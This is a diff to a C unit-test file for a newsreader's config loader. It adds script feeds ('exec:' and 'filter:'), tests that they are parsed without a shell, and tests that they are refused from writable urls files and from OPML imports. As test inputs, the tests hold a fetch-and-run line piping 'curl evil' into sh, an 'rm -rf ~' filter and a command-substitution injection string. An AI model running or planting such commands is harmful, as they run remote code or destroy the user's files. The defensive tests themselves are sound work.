@@ -23,8 +23,10 @@
 #include "config/load.h"
 #include "config/opml.h"
 #include "config/paths.h"
+#include "config/scriptfeed.h"
 #include "config/settings.h"
 #include "config/urls.h"
+#include "share/argv.h"
 #include "util/xalloc.h"
 
 static char *
@@ -467,7 +469,7 @@ test_urls_file(void **state)
 	(void)state;
 
 	assert_int_equal(urls_load(path, false, &l, &d), 0);
-	assert_int_equal(l->n, 6);
+	assert_int_equal(l->n, 8);
 	assert_string_equal(l->v[0].url, "https://example.org/feed.xml");
 	assert_int_equal(l->v[0].ntags, 0);
 	assert_null(l->v[0].title);
@@ -482,23 +484,24 @@ test_urls_file(void **state)
 	assert_int_equal(l->v[2].ntags, 2);
 	assert_string_equal(l->v[3].url, "https://example.com/frag#section");
 	assert_string_equal(l->v[3].tags[0], "tag#1");
-	assert_string_equal(l->v[4].url, "file:///home/me/feed.xml");
-	assert_string_equal(l->v[4].title, "Mine \"quoted\"");
-	assert_string_equal(l->v[5].url, "https://example.org/crlf.xml");
-	assert_string_equal(l->v[5].tags[0], "windows");
+	/* Script feeds: the whole line is the feed's URL (its identity). */
+	assert_string_equal(l->v[4].url, "exec:~/bin/make-feed");
+	assert_string_equal(l->v[5].url, "filter:~/bin/clean:https://example.org/raw.xml");
+	assert_string_equal(l->v[6].url, "file:///home/me/feed.xml");
+	assert_string_equal(l->v[6].title, "Mine \"quoted\"");
+	assert_string_equal(l->v[7].url, "https://example.org/crlf.xml");
+	assert_string_equal(l->v[7].tags[0], "windows");
 
 	static const char *const warnings[] = {
 		"7: query feeds are not supported (line skipped)",
-		"8: exec: feeds are not supported (line skipped)",
-		"9: filter: feeds are not supported (line skipped)",
 		"10: unsupported URL 'ftp://example.org/feed.xml' (expected http, https or file; "
 		    "line skipped)",
 		"11: duplicate URL 'https://example.org/feed.xml' (first on line 3; this line "
 		    "skipped)",
 		"12: unterminated quote (line skipped)",
 	};
-	assert_int_equal(d.n, 6);
-	for (size_t i = 0; i < 6; i++) {
+	assert_int_equal(d.n, 4);
+	for (size_t i = 0; i < 4; i++) {
 		char *want = xasprintf("%s:%s", path, warnings[i]);
 		assert_string_equal(d.v[i].msg, want);
 		assert_int_equal(d.v[i].level, DIAG_WARNING);
@@ -579,6 +582,162 @@ test_bundled_demo_list(void **state)
 	free(dir);
 }
 
+/* exec:/filter: lines split as share-command is, never by a shell. */
+static void
+test_script_feed_parse(void **state)
+{
+	char **argv, *url, *err;
+	(void)state;
+
+	assert_int_equal(script_feed_kind("exec:x"), SCRIPT_FEED_EXEC);
+	assert_int_equal(script_feed_kind("filter:x:https://h/"), SCRIPT_FEED_FILTER);
+	assert_int_equal(script_feed_kind("https://h/exec:x"), SCRIPT_FEED_NONE);
+
+	assert_int_equal(script_feed_parse("exec:/bin/gen 'a $(touch /tmp/x); b' \"q\\\"x\" ;",
+	    &argv, &url, &err), 0);
+	assert_null(url);
+	assert_int_equal(share_argv_len(argv), 4);
+	assert_string_equal(argv[0], "/bin/gen");
+	assert_string_equal(argv[1], "a $(touch /tmp/x); b");
+	assert_string_equal(argv[2], "q\"x");
+	assert_string_equal(argv[3], ";");
+	share_argv_free(&argv);
+
+	/* The command ends at the first ':' outside quotes. */
+	assert_int_equal(script_feed_parse("filter:clean 'a:b' \"c:d\":https://example.org/f.xml",
+	    &argv, &url, &err), 0);
+	assert_string_equal(url, "https://example.org/f.xml");
+	assert_int_equal(share_argv_len(argv), 3);
+	assert_string_equal(argv[1], "a:b");
+	assert_string_equal(argv[2], "c:d");
+	share_argv_free(&argv);
+	free(url);
+
+	setenv("HOME", "/home/مستخدم", 1);
+	assert_int_equal(script_feed_parse("exec:~/bin/feed ~/x", &argv, &url, &err), 0);
+	assert_string_equal(argv[0], "/home/مستخدم/bin/feed");
+	assert_string_equal(argv[1], "~/x");	/* only the program's path */
+	share_argv_free(&argv);
+
+	static const struct { const char *line, *err; } bad[] = {
+		{ "exec:", "exec: empty command" },
+		{ "exec:   ", "exec: empty command" },
+		{ "exec:''", "exec: empty command" },
+		{ "exec:gen 'open", "exec: unterminated single quote" },
+		{ "filter:clean", "filter: no URL after the command (filter:COMMAND:URL)" },
+		{ "filter:clean:", "filter: no URL after the command (filter:COMMAND:URL)" },
+		{ "filter:clean:ftp://h/f", "filter: unsupported URL 'ftp://h/f' (expected http, "
+		    "https or file)" },
+		{ "filter::https://h/f", "filter: empty command" },
+	};
+	for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
+		assert_int_equal(script_feed_parse(bad[i].line, &argv, &url, &err), -1);
+		assert_null(argv);
+		assert_null(url);
+		assert_string_equal(err, bad[i].err);
+		free(err);
+	}
+}
+
+/* Write text to a new file in a new directory; returns its path. */
+static char *
+temp_file(const char *name, const char *text, mode_t mode)
+{
+	char dir[] = "/tmp/nr-config-test-XXXXXX";
+	char *path;
+	FILE *f;
+
+	assert_non_null(mkdtemp(dir));
+	path = xasprintf("%s/%s", dir, name);
+	f = fopen(path, "w");
+	assert_non_null(f);
+	fputs(text, f);
+	fclose(f);
+	assert_int_equal(chmod(path, mode), 0);
+	return path;
+}
+
+static void
+temp_remove(char *path)
+{
+	char *slash = strrchr(path, '/');
+
+	unlink(path);
+	*slash = '\0';
+	rmdir(path);
+	free(path);
+}
+
+/* Whoever can write the urls file could run commands as its owner. */
+static void
+test_urls_scripts_refused_when_writable(void **state)
+{
+	static const char text[] =
+	    "https://example.org/a.xml\n"
+	    "\"exec:gen --all\" mine\n"
+	    "\"filter:clean:https://example.org/raw.xml\"\n";
+	struct diag_list d = DIAG_LIST_INIT;
+	struct urls_list *l;
+	char *path = temp_file("urls", text, 0600), *want;
+	(void)state;
+
+	assert_int_equal(urls_load(path, false, &l, &d), 0);
+	assert_int_equal(d.n, 0);
+	assert_int_equal(l->n, 3);
+	assert_string_equal(l->v[1].url, "exec:gen --all");
+	assert_string_equal(l->v[1].tags[0], "mine");
+	urls_list_free(&l);
+
+	assert_int_equal(chmod(path, 0620), 0);
+	assert_int_equal(urls_load(path, false, &l, &d), 0);
+	assert_int_equal(l->n, 1);
+	assert_string_equal(l->v[0].url, "https://example.org/a.xml");
+	assert_int_equal(d.n, 2);
+	want = xasprintf("%s:2: exec: feed refused: the file is writable by its group, who "
+	    "could make it run any command as you (chmod go-w '%s'; line skipped)", path, path);
+	assert_string_equal(d.v[0].msg, want);
+	free(want);
+	urls_list_free(&l);
+	diag_list_clear(&d);
+
+	assert_int_equal(chmod(path, 0602), 0);
+	assert_int_equal(urls_load(path, false, &l, &d), 0);
+	assert_int_equal(l->n, 1);
+	assert_non_null(strstr(d.v[1].msg, ":3: filter: feed refused: the file is writable by "
+	    "others"));
+	urls_list_free(&l);
+	diag_list_clear(&d);
+	temp_remove(path);
+}
+
+/* A shared OPML file cannot plant a command in the urls file. */
+static void
+test_opml_refuses_scripts(void **state)
+{
+	static const char doc[] =
+	    "<?xml version=\"1.0\"?>\n<opml version=\"2.0\"><head/><body>\n"
+	    "<outline text=\"ok\" xmlUrl=\"https://example.org/ok.xml\"/>\n"
+	    "<outline text=\"x\" xmlUrl=\"exec:sh -c 'curl evil | sh'\"/>\n"
+	    "<outline text=\"y\" xmlUrl=\"filter:rm -rf ~:https://example.org/f.xml\"/>\n"
+	    "</body></opml>\n";
+	struct diag_list d = DIAG_LIST_INIT;
+	struct urls_list *l;
+	char *err = NULL;
+	(void)state;
+
+	assert_int_equal(opml_parse("shared.opml", doc, strlen(doc), &l, &d, &err), 0);
+	assert_null(err);
+	assert_int_equal(l->n, 1);
+	assert_string_equal(l->v[0].url, "https://example.org/ok.xml");
+	assert_int_equal(d.n, 2);
+	assert_string_equal(d.v[0].msg, "shared.opml: line 4: exec: feeds run a command and are "
+	    "never imported from OPML; add the line to the urls file yourself if you trust it "
+	    "(outline skipped)");
+	assert_non_null(strstr(d.v[1].msg, "line 5: filter: feeds run a command"));
+	urls_list_free(&l);
+	diag_list_clear(&d);
+}
+
 static void
 test_urls_format_roundtrip(void **state)
 {
@@ -634,8 +793,9 @@ test_opml_nested(void **state)
 	assert_string_equal(l->v[4].url, "http://example.com/top.rss");
 	assert_int_equal(l->v[4].ntags, 0);
 	assert_int_equal(d.n, 2);
-	char *w0 = xasprintf("%s: line 15: unsupported feed URL 'exec:~/bin/feed' (expected "
-	    "http, https or file; outline skipped)", path);
+	char *w0 = xasprintf("%s: line 15: exec: feeds run a command and are never imported "
+	    "from OPML; add the line to the urls file yourself if you trust it (outline "
+	    "skipped)", path);
 	char *w1 = xasprintf("%s: line 16: feed 'https://example.org/ar.xml' is listed twice "
 	    "(outline skipped)", path);
 	assert_string_equal(d.v[0].msg, w0);
@@ -818,7 +978,7 @@ test_load_all(void **state)
 	assert_int_equal(mkdir(p, 0700), 0);
 	free(p);
 	p = xasprintf("%s/newsreader/urls", tmp);
-	write_file(p, "https://example.org/a.xml\nexec:x\n");
+	write_file(p, "https://example.org/a.xml\nftp://example.org/x\n");
 	free(p);
 	p = xasprintf("%s/newsreader/config", tmp);
 	write_file(p, "market-interval 7\n");
@@ -942,6 +1102,9 @@ main(void)
 		cmocka_unit_test(test_urls_sanitized),
 		cmocka_unit_test(test_bundled_demo_list),
 		cmocka_unit_test(test_urls_format_roundtrip),
+		cmocka_unit_test(test_script_feed_parse),
+		cmocka_unit_test(test_urls_scripts_refused_when_writable),
+		cmocka_unit_test(test_opml_refuses_scripts),
 		cmocka_unit_test(test_opml_nested),
 		cmocka_unit_test(test_opml_errors),
 		cmocka_unit_test(test_opml_roundtrip),
